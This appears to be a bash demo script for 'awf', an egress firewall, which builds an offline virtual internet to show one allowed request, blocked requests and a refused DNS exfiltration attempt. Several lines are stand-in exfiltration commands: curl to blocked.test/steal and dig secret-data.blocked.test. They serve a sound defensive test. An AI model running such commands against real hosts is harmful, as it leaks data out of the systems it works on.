#!/usr/bin/env bash
# awf demo, fully offline: a virtual internet made of network namespaces (tests/integration/vnet.py)
# with an allowed origin, an "evil" host and an authoritative DNS server that logs every query.
# awf runs with --allow-domains allowed.test and shows: an allowed request, a blocked one,
# a refused DNS exfiltration attempt, and its logs. Everything is torn down on exit.
#
#   sudo scripts/demo.sh            (needs root for network namespaces; AWF_BIN overrides the binary)
set -euo pipefail

ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
AWF_BIN=${AWF_BIN:-$ROOT/build/src/cli/awf}
PY=/usr/bin/python3
VNET=("$PY" "$ROOT/tests/integration/vnet.py")

if [[ -t 1 ]]; then B=$'\033[1m'; D=$'\033[2m'; G=$'\033[32m'; R=$'\033[31m'; N=$'\033[0m'
else B= D= G= R= N=; fi
heading() { printf '\n%s== %s ==%s\n' "$B" "$*" "$N"; }
note() { printf '%s%s%s\n' "$D" "$*" "$N"; }
ok() { printf '%s%s%s\n' "$G" "$*" "$N"; }
bad() { printf '%s%s%s\n' "$R" "$*" "$N"; }

[[ $EUID -eq 0 ]] || { echo "demo.sh: needs root (it creates network namespaces)" >&2; exit 1; }
[[ -x $AWF_BIN ]] || { echo "demo.sh: awf binary not found at $AWF_BIN (cmake -S . -B build && cmake --build build, or set AWF_BIN)" >&2; exit 1; }

STATE=$(mktemp /tmp/awf-demo-state.XXXXXX)
cleanup() {
  "${VNET[@]}" down --state "$STATE" >/dev/null 2>&1 || true
  rm -f "$STATE"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

heading "Setting up the virtual internet"
"${VNET[@]}" up --state "$STATE"
eval "$("${VNET[@]}" env --state "$STATE")"
note "host namespace $VNET_HOST_NS (awf runs here) -> internet namespace $VNET_INET_NS"
note "allowed.test -> 203.0.113.10   blocked.test -> 203.0.113.20   DNS server $VNET_DNS_SERVER"
LOGS=$VNET_RUN_DIR/demo-logs
mkdir -p "$LOGS"

# run_awf NAME cmd...: run awf in the host namespace (like a CI runner would), logs in $LOGS/NAME.
run_awf() {
  local name=$1; shift
  mkdir -p "$LOGS/$name"
  printf '%s$ awf --allow-domains allowed.test -- %s%s\n' "$D" "$(printf '%q ' "$@")" "$N"
  local rc=0
  # Without the caller's proxy settings: awf would chain through them (--upstream-proxy is
  # auto-detected), and the demo talks only to its own virtual internet.
  ip netns exec "$VNET_HOST_NS" env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY \
    -u all_proxy -u ALL_PROXY "$AWF_BIN" --dns-servers "$VNET_DNS_SERVER" \
    --proxy-logs-dir "$LOGS/$name" --allow-domains allowed.test -- "$@" || rc=$?
  note "(exit status $rc)"
}
CURL=(curl -sS --max-time 10 --cacert "$VNET_CA")

heading "1. An allowed HTTPS request"
run_awf 1-allowed "${CURL[@]}" https://allowed.test/hello

heading "2. A blocked request (blocked.test is not on the allowlist)"
run_awf 2-blocked-http "${CURL[@]}" http://blocked.test/steal
run_awf 2-blocked-https "${CURL[@]}" https://blocked.test/steal

heading "3. DNS exfiltration attempt"
before=$(wc -l < "$VNET_DNS_LOG")
run_awf 3-dns bash -c 'dig +time=2 +tries=1 secret-data.blocked.test | grep -E "status:|^secret"; dig +short +time=2 +tries=1 allowed.test'
if tail -n +"$((before + 1))" "$VNET_DNS_LOG" | grep -q 'blocked\.test'; then
  bad "the test DNS server received a blocked.test query!"
else
  ok "the test DNS server never saw secret-data.blocked.test (only awf did, and refused it)"
fi
note "queries the DNS server did receive during step 3:"
tail -n +"$((before + 1))" "$VNET_DNS_LOG" | "$PY" -c '
import json, sys
for l in sys.stdin:
    q = json.loads(l); print("   ", q["name"], q["type"], "from", q["src"], "->", q["rcode"])'

heading "4. awf's logs"
for d in "$LOGS"/*/; do
  note "--- $(basename "$d")/access.log"
  cat "$d/access.log" 2>/dev/null || true
done
for d in "$LOGS"/*/; do
  note "--- $(basename "$d")/audit.jsonl"
  cat "$d/audit.jsonl" 2>/dev/null || true
done

heading "Done"
note "tearing down the virtual internet"
